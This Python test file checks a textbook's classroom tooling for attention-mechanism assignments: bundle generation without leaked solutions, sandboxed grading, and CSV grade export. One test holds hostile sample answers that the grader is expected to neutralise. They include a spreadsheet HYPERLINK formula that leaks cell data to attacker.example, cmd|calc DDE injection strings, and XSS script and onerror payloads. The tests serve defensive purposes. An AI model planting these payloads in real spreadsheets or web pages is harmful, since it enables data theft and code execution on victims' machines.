"""Assignments: generation, the student bundle, grading offline in the sandbox, and agreement
with the book's own exercises."""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
import zipfile

import nbformat
import numpy as np
import pytest
import torch

from book import chapters, classroom
from book.classroom import grading, sandbox
from book.face import checks

pytestmark = pytest.mark.slow
STEMS = ("01_attention_numpy", "02_mha_torch", "03_kv_cache", "04_gqa", "05_scaling",
         "06_stability", "07_masks")
# The scores below do not depend on the sandbox; where bwrap cannot run these tests grade our
# own notebooks without it (the rows say so). Isolation: tests/test_classroom_adversarial.py.
OWN_NOTEBOOKS = {"unsandboxed": True}


@pytest.fixture(scope="module")
def generated(tmp_path_factory):
    return classroom.generate(tmp_path_factory.mktemp("assignments"), **OWN_NOTEBOOKS)


@pytest.fixture(scope="module")
def graded(generated, tmp_path_factory):
    folder = tmp_path_factory.mktemp("submissions")
    classroom.fake_submissions(generated, folder)
    csv_path = folder.parent / "grades.csv"
    rows = classroom.grade(folder, csv_path, progress=False, **OWN_NOTEBOOKS)
    return rows, csv_path


def solution_lines(source_nb) -> set[str]:
    """Non-trivial code lines between BEGIN/END SOLUTION markers of the instructor notebook."""
    lines, inside = set(), False
    for cell in nbformat.read(source_nb, as_version=4).cells:
        if cell.cell_type != "code":
            continue
        for line in cell.source.splitlines():
            if "# BEGIN SOLUTION" in line:
                inside = True
            elif "# END SOLUTION" in line:
                inside = False
            elif inside and len(line.strip()) > 12:
                lines.add(line.strip())
    return lines


def test_every_assignment_and_the_bundle_are_generated(generated):
    assert set(generated) == set(STEMS)
    for paths in generated.values():
        assert paths["student"].is_file() and paths["solutions"].is_file()
        assert sorted(p.stem for p in paths["tests"].glob("q*.py"))
        zh = paths["zh"]   # the Chinese bundle: the same questions and public tests
        assert zh["student"].is_file() and zh["solutions"].is_file()
        assert (sorted(p.name for p in zh["tests"].glob("q*.py"))
                == sorted(p.name for p in paths["tests"].glob("q*.py")))
    for suffix in ("", "-zh"):
        bundle = next(iter(generated.values()))["student"].parents[1]
        with zipfile.ZipFile(bundle.parent / f"student-bundle{suffix}.zip") as z:
            names = set(z.namelist())
        root = f"attention-assignments{suffix}"
        for stem in STEMS:
            assert f"{root}/{stem}/{stem}.ipynb" in names
        assert {f"{root}/README.md", f"{root}/requirements.txt"} <= names


@pytest.mark.parametrize("language", ["en", "zh"])
def test_the_bundle_holds_no_solution_no_hidden_case_and_no_book_code(generated, language):
    first = next(iter(generated.values()))
    bundle = (first if language == "en" else first["zh"])["student"].parents[1]
    text = {p: p.read_text(encoding="utf-8") for p in bundle.rglob("*") if p.is_file()
            and "__pycache__" not in p.parts}
    everything = "\n".join(text.values())
    for stem in STEMS:
        secrets = solution_lines(classroom.SOURCES / f"{stem}.ipynb")
        assert secrets, f"{stem}: the scan found nothing to look for"
        leaked = [s for s in secrets if s in everything]
        assert not leaked, f"{stem}: solution code in the bundle: {leaked}"
    assert "BEGIN SOLUTION" not in everything and "hidden: true" not in everything
    assert "from book" not in everything and "import book" not in everything
    requirements = (bundle / "requirements.txt").read_text()
    assert "-e" not in requirements.split() and "attention-book" not in requirements
    assert not list(bundle.rglob("*.py")) or all(p.parent.name == "tests"
                                                 for p in bundle.rglob("*.py"))


def test_full_partial_blank_scores(graded):
    """The same answers in the English and the Chinese notebook get the same scores, question
    by question (one batch, one seed: the same hidden inputs); only the wording differs."""
    rows, csv_path = graded
    totals, scores, details = {}, {}, {}
    for r in rows:
        if r["status"] == grading.WRITTEN:   # tests below
            continue
        assert r["status"] == "graded", r
        assert r["isolation"] == sandbox.isolation(), r
        stem, *language, kind = r["submission"].removesuffix(".ipynb").split("__")
        language = language[0] if language else "en"
        s = totals.setdefault((stem, language, kind), [0.0, 0.0])
        s[0] += r["score"]
        s[1] += r["possible"]
        scores[(stem, language, kind, r["question"])] = (r["score"], r["possible"])
        details[(stem, language, kind, r["question"])] = r["detail"]
    for stem in STEMS:
        for language in ("en", "zh"):
            full, partial, blank = (totals[(stem, language, k)]
                                    for k in ("full", "partial", "blank"))
            assert full[0] == full[1] > 0, (stem, language, full)
            assert 0 < partial[0] < partial[1], (stem, language, partial)
            assert blank[0] == 0, (stem, language, blank)
    english = {key[:1] + key[2:]: v for key, v in scores.items() if key[1] == "en"}
    chinese = {key[:1] + key[2:]: v for key, v in scores.items() if key[1] == "zh"}
    assert english and english.keys() == chinese.keys() and english == chinese
    worded = [(k, d) for k, d in details.items() if d and k[2] == "partial"]
    assert worded, "no partial submission had a detail to compare"
    for key, detail in worded:
        cjk = re.search(r"[\u4e00-\u9fff]", detail)
        assert bool(cjk) == (key[1] == "zh"), (key, detail)
    with csv_path.open(encoding="utf-8") as f:
        assert len(list(csv.DictReader(f))) == len(rows)


def test_broken_solution_fails_generation(tmp_path):
    """The public test only checks the mask's shape and dtype, so otter accepts the broken
    solution; grading it against the hidden cases in the sandbox does not."""
    src = tmp_path / "src"
    src.mkdir()
    nb = nbformat.read(classroom.SOURCES / "01_attention_numpy.ipynb", as_version=4)
    for cell in nb.cells:
        cell.source = cell.source.replace("np.tril(", "np.triu(")
    nbformat.write(nb, src / "01_attention_numpy.ipynb")
    with pytest.raises(classroom.AssignmentError, match="is every solution correct"):
        classroom.generate(tmp_path / "out", source_dir=src, **OWN_NOTEBOOKS)


@pytest.mark.parametrize("language", ["en", "zh"])
def test_the_bundle_works_outside_the_repository_and_under_another_name(generated, tmp_path,
                                                                         language):
    """A student's copy: the bundle folder elsewhere, the notebook renamed, real otter checks;
    in the Chinese bundle a wrong answer's public check shows the Chinese hint."""
    from nbclient import NotebookClient

    paths = generated["01_attention_numpy"]
    paths = paths if language == "en" else paths["zh"]
    folder = tmp_path / "my copy"
    shutil.copytree(paths["student"].parent, folder)
    (folder / "01_attention_numpy.ipynb").rename(folder / "homework of Ana.ipynb")
    nb = nbformat.read(folder / "homework of Ana.ipynb", as_version=4)
    solved = nbformat.read(paths["solutions"], as_version=4)
    answers = {c.source.split("(")[0]: c.source for c in solved.cells
               if c.cell_type == "code" and c.source.startswith("def ")}
    for cell in nb.cells:
        head = cell.source.split("(")[0]
        if cell.cell_type == "code" and head in answers:
            cell.source = answers[head]
    NotebookClient(nb, timeout=60, kernel_name="python3",
                   resources={"metadata": {"path": str(folder)}}).execute()
    checks_run = [c for c in nb.cells if c.source.startswith("grader.check")]
    assert len(checks_run) == 3
    for cell in checks_run:
        text = str(cell.outputs)
        assert "passed" in text and "Error" not in text, text
    if language == "zh":
        wrong = nbformat.read(folder / "homework of Ana.ipynb", as_version=4)
        for cell in wrong.cells:
            if cell.cell_type == "code" and cell.source.split("(")[0] in answers:
                cell.source = answers[cell.source.split("(")[0]]
            if cell.source.startswith("def softmax("):
                cell.source = "def softmax(x):\n    return x\n"
        NotebookClient(wrong, timeout=60, kernel_name="python3",
                       resources={"metadata": {"path": str(folder)}}).execute()
        first = next(c for c in wrong.cells if c.source.startswith("grader.check"))
        assert "每一行的和必须为 1" in str(first.outputs), first.outputs


# (assignment name, function the student writes, book exercise with the same contract)
SHARED = [("attention-01-numpy", "softmax", "ch1.my_softmax"),
          ("attention-02-mha-torch", "split_heads", "ch4.split_heads")]


@pytest.mark.parametrize("name,func,exercise", SHARED)
def test_book_exercises_and_assignments_agree(generated, name, func, exercise):
    """A chapter exercise and an assignment question that ask for the same function accept
    the same answers: the book's reference passes every case of the question (compared by
    the grader's own checks), and the assignment's solution passes the chapter's checker."""
    chapters.modules()   # registers every chapter's exercises
    reference = checks.reference(exercise)
    cases = [c for c in classroom.ASSIGNMENTS[name].cases(seed=3) if c.function == func]
    assert cases
    for case in cases:
        args = [torch.from_numpy(a) if case.tensor_args and isinstance(a, np.ndarray) else a
                for a in case.args]
        out = reference(*args)
        out = out.numpy() if isinstance(out, torch.Tensor) else out
        assert case.check(out) is None, case.name
    stem = classroom.ASSIGNMENTS[name].stem
    namespace = {}
    solution = nbformat.read(generated[stem]["solutions"], as_version=4)
    for c in solution.cells:  # the imports, then the solution function itself
        if c.cell_type == "code" and (c.source.startswith(("import", "from"))
                                      or c.source.startswith(f"def {func}(")):
            exec(c.source, namespace)
    assert checks.check(exercise, namespace[func]).ok


@pytest.fixture
def path_without_bwrap(tmp_path, monkeypatch):
    """PATH holding only what make needs (make, bash, git, env): no bwrap."""
    folder = tmp_path / "bin"
    folder.mkdir()
    for tool in ("make", "bash", "sh", "git", "env"):
        found = shutil.which(tool)
        if found:
            (folder / tool).symlink_to(found)
    monkeypatch.setenv("PATH", str(folder))
    monkeypatch.delenv("UNSANDBOXED", raising=False)
    assert sandbox.bwrap() is None
    return str(folder)


def test_without_bubblewrap_grading_stops_unless_the_teacher_says_so(generated, tmp_path,
                                                                     path_without_bwrap):
    folder = tmp_path / "subs"
    folder.mkdir()
    shutil.copy2(generated["03_kv_cache"]["solutions"], folder / "full.ipynb")
    with pytest.raises(classroom.SandboxUnavailable, match="sudo apt-get install bubblewrap"):
        classroom.grade(folder, None, progress=False)
    with pytest.warns(sandbox.UnsandboxedWarning, match="with YOUR permissions"):
        rows = classroom.grade(folder, None, progress=False, unsandboxed=True)
    assert [r["status"] for r in rows] == ["graded"] * 3 + [grading.WRITTEN]
    assert [r["isolation"] for r in rows] == ["unsandboxed"] * 4
    graded = [r for r in rows if r["status"] == "graded"]
    assert sum(r["score"] for r in graded) == sum(r["possible"] for r in graded) == 30


def test_make_fails_closed_without_bubblewrap_and_passes_unsandboxed_on(tmp_path,
                                                                          path_without_bwrap):
    """make grade, grade-demo, grade-check and assignments: the hint and a non-zero exit."""
    folder = tmp_path / "subs"
    folder.mkdir()
    (folder / "a.ipynb").write_text("{}")
    env = {**os.environ, "PATH": path_without_bwrap}
    for target in ([f"SUBMISSIONS={folder}", "grade"], ["grade-demo"], ["grade-check"],
                   ["assignments"]):
        proc = subprocess.run(["make", "--no-print-directory", *target], cwd=classroom.ROOT,
                              env=env, capture_output=True, text=True, timeout=300)
        assert proc.returncode != 0, (target, proc.stdout, proc.stderr)
        assert "error: no sandbox: bwrap is not installed. Nothing was run." in proc.stderr
        assert "sudo apt-get install bubblewrap" in proc.stderr, target
        assert "UNSANDBOXED=1" in proc.stderr and "WARNING" not in proc.stderr, target
    for extra, flagged in (([], False), (["UNSANDBOXED=1"], True), (["UNSANDBOXED=0"], False)):
        proc = subprocess.run(["make", "-n", "--no-print-directory", f"SUBMISSIONS={folder}",
                               *extra, "grade", "grade-demo", "grade-check", "assignments"],
                              cwd=classroom.ROOT, env=env, capture_output=True, text=True,
                              timeout=60)
        commands = re.findall(r"^.*-m book\.classroom .*$", proc.stdout, re.M)
        assert len(commands) == 4, proc.stdout
        assert all(("--unsandboxed" in c) == flagged for c in commands), (extra, commands)


def test_grading_in_parallel_gives_the_same_csv(generated, tmp_path):
    """JOBS=2 and JOBS=1 write the same CSV (rows in file order), but for the wall-clock
    ``seconds`` column; the hidden inputs are the same because the seed is."""
    folder = tmp_path / "subs"
    made = classroom.fake_submissions({s: generated[s] for s in ("01_attention_numpy",
                                                                  "07_masks")}, folder)
    assert len(made) == 12   # full, partial, blank; English and Chinese
    texts = {}
    for jobs in (1, 2):
        csv_path = tmp_path / f"grades_{jobs}.csv"
        classroom.grade(folder, csv_path, seed=31, jobs=jobs, progress=False, **OWN_NOTEBOOKS)
        with csv_path.open(encoding="utf-8", newline="") as f:
            rows = list(csv.DictReader(f))
        assert len({r["submission"] for r in rows}) == 12
        texts[jobs] = [{k: v for k, v in r.items() if k != "seconds"} for r in rows]
    assert texts[1] == texts[2]
    assert [r["submission"] for r in texts[2]] == sorted(r["submission"] for r in texts[2])


# ---- the written item: the student's text in the CSV for the teacher, next to the rubric ------

CJK = re.compile(r"[\u4e00-\u9fff]")


def model_answer(solutions) -> str:
    """The instructor's answer to the written item, as the solutions notebook holds it."""
    nb = nbformat.read(solutions, as_version=4)
    [cell] = [c for c in nb.cells if "otter_assign_solution_cell" in c.metadata.get("tags", [])
              and c.cell_type == "markdown"]
    return cell.source.strip()


def test_every_assignment_has_a_written_item_whose_answer_and_rubric_reach_the_csv(generated,
                                                                                 graded):
    """One written row per submission, in both languages: the full and partial submissions'
    model answer (as typed, made one line), the blank one's empty answer (the otter placeholder
    is no answer), the rubric line in the notebook's language; the grader scores none of it."""
    rows, csv_path = graded
    with csv_path.open(encoding="utf-8", newline="") as f:
        reader = csv.DictReader(f)
        assert reader.fieldnames[-2:] == ["answer", "rubric"]
        from_file = {(r["submission"], r["question"]): r for r in reader}
    seen = set()
    for r in rows:
        stem, *language, kind = r["submission"].removesuffix(".ipynb").split("__")
        language = language[0] if language else "en"
        if r["status"] != grading.WRITTEN:
            assert not r.get("answer") and not r.get("rubric"), r
            continue
        seen.add((stem, language, kind))
        assignment = next(a for a in classroom.ASSIGNMENTS.values() if a.stem == stem)
        assert r["question"] == assignment.written.question
        assert r["score"] == "" and r["possible"] == "", r
        assert r["rubric"] == assignment.written.rubric.to(language)
        assert bool(CJK.search(r["rubric"])) == (language == "zh"), r
        paths = generated[stem] if language == "en" else generated[stem]["zh"]
        if kind == "blank":
            assert r["answer"] == "", r
        else:
            expected = grading.answer_text(model_answer(paths["solutions"]), language)
            assert r["answer"] == expected and len(expected) > 80, r
            assert bool(CJK.search(r["answer"])) == (language == "zh"), r
        assert from_file[(r["submission"], r["question"])]["answer"] == r["answer"]
    assert seen == {(s, lang, k) for s in STEMS for lang in ("en", "zh")
                    for k in ("full", "partial", "blank")}
    for language in ("en", "zh"):   # the student's placeholder is in the notebook's language
        paths = generated["01_attention_numpy"]
        paths = paths if language == "en" else paths["zh"]
        nb = nbformat.read(paths["student"], as_version=4)
        answer_cells = [c for c in nb.cells if "otter_answer_cell" in c.metadata.get("tags", [])
                        and c.cell_type == "markdown"]
        assert [c.source for c in answer_cells] == [
            classroom.feedback.Text("classroom.answer_placeholder").to(language)]


HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")\nsecond line\r\nthird\rfourth',
    "+cmd|' /C calc'!A0\t<script>alert('x')</script><img src=x onerror=alert(1)>",
    '@SUM(1+1)*cmd|"/C calc"!A0, "quoted", commas; \u202eevil\x00\x07' + "x" * 1_000_000,
]


@pytest.mark.parametrize("language", ["en", "zh"])
def test_a_hostile_written_answer_stays_in_its_own_cell_and_is_neutralised(generated, tmp_path,
                                                                          language):
    """Formulas, line breaks, HTML, control characters and a megabyte of text in the answer
    cell: each answer stays in its one cell of its one row (the CSV has exactly one line per
    row), starts with a quote where a spreadsheet would run it as a formula, is cut to
    MAX_ANSWER_CHARS (saying how much more there was), and the scores are the full solution's."""
    paths = generated["01_attention_numpy"]
    paths = paths if language == "en" else paths["zh"]
    subs = tmp_path / "subs"
    subs.mkdir()
    shutil.copy2(paths["solutions"], subs / "honest.ipynb")
    for index, text in enumerate(HOSTILE):
        nb = nbformat.read(paths["solutions"], as_version=4)
        [cell] = [c for c in nb.cells if "otter_assign_solution_cell" in c.metadata.get("tags", [])
                  and c.cell_type == "markdown"]
        cell.source = text
        nbformat.write(nb, subs / f"hostile{index}.ipynb")
    csv_path = tmp_path / "grades.csv"
    rows = classroom.grade(subs, csv_path, seed=3, progress=False, jobs=2, **OWN_NOTEBOOKS)
    raw = csv_path.read_text(encoding="utf-8")
    assert len(raw.splitlines()) == 1 + len(rows) == 1 + 4 * 4, raw[:2000]
    with csv_path.open(encoding="utf-8", newline="") as f:
        written = {r["submission"]: r for r in csv.DictReader(f)
                   if r["status"] == grading.WRITTEN}
    scores = {(r["submission"], r["question"]): r["score"] for r in rows
              if r["status"] == "graded"}
    for index in range(len(HOSTILE)):
        for question in ("q1_softmax", "q2_attention", "q3_causal_mask"):
            assert scores[(f"hostile{index}.ipynb", question)] == scores[("honest.ipynb",
                                                                           question)]
    first, second, third = (written[f"hostile{i}.ipynb"]["answer"] for i in range(3))
    assert first.startswith("'=HYPERLINK(") and first.count(grading.LINE_BREAK.strip()) == 3
    assert second.startswith("'+cmd|") and "<script>alert('x')</script>" in second
    assert "\t" not in second
    assert third.startswith("'@SUM(")
    assert "\u202e" not in third and "\x00" not in third and "\x07" not in third
    cut = classroom.feedback.Text("classroom.answer_cut", more=0).to(language).split("0")[0]
    assert cut in third and str(len(HOSTILE[2]) - 3 - grading.MAX_ANSWER_CHARS) in third
    assert len(third) < grading.MAX_ANSWER_CHARS + 80
    for answer in (first, second, third):
        assert "\n" not in answer and "\r" not in answer
    assert written["honest.ipynb"]["answer"][:1] not in "=+-@'"
